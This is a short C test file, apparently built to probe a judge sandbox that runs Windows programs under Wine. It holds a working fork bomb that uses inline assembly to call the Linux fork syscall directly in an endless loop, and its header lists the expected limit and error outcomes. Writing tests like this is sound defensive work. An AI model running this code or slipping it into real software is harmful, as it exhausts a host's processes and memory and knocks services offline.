// attack: a fork bomb by system calls of Linux
// expect: time-limit,memory-limit,runtime-error
// defends: a limit says what it limits
#include <stdio.h>
#include <windows.h>

/* Under Wine this process is a process of Linux, and may ask its kernel directly. */
static long ask(long number, long first, long second, long third) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third) : "rcx", "r11", "memory");
  return result;
}

static void answer(void) {
  long long a, b;
  if (scanf("%lld %lld", &a, &b) == 2) printf("%lld\n", a + b);
}

int main(void) {
  for (;;) ask(57, 0, 0, 0); /* fork() */
}
